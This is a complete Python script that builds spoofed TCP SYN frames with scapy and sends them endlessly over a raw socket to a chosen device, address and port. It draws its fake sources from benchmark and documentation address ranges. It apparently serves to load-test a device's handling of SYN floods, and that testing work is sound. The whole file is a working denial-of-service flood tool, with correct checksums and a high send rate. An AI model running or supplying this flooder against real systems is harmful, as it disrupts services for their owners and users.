"""A flood of SYNs from sources that do not exist, onto one device: `spoofer.py DEVICE MAC ADDRESS PORT`, until ended.

It prints `ready` after the first thousand. Sources come from networks for benchmarks and for documents (RFC 2544, RFC
3849), so that nobody else is meant, and frames have right checksums, so that a listener would take them.
"""

from __future__ import annotations

import socket
import sys
import time
from ipaddress import ip_address

from scapy.layers.inet import IP, TCP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether

SOURCES = 500
_PAUSE = 0.01  # s between two rounds: fifty thousand SYNs a second leave a small machine to others too


def frames(mac: str, own: str, address: str, port: int) -> list[bytes]:
    """One SYN from each source."""
    layer, first = (IPv6, "2001:db8:ffff::1") if ":" in address else (IP, "198.19.0.1")
    sources = (str(ip_address(first) + number) for number in range(SOURCES))
    head = Ether(src=own, dst=mac)
    return [
        bytes(head / layer(src=source, dst=address) / TCP(sport=1024 + number, dport=port, flags="S"))
        for number, source in enumerate(sources)
    ]


def main(device: str, mac: str, address: str, port: str) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((device, 0))
        made = frames(mac, ":".join(f"{byte:02x}" for byte in out.getsockname()[4]), address, int(port))
        rounds = 0
        while True:
            for frame in made:
                out.send(frame)
            rounds += 1
            if rounds * SOURCES == 1000:
                print("ready", flush=True)
            time.sleep(_PAUSE)


if __name__ == "__main__":
    main(*sys.argv[1:])
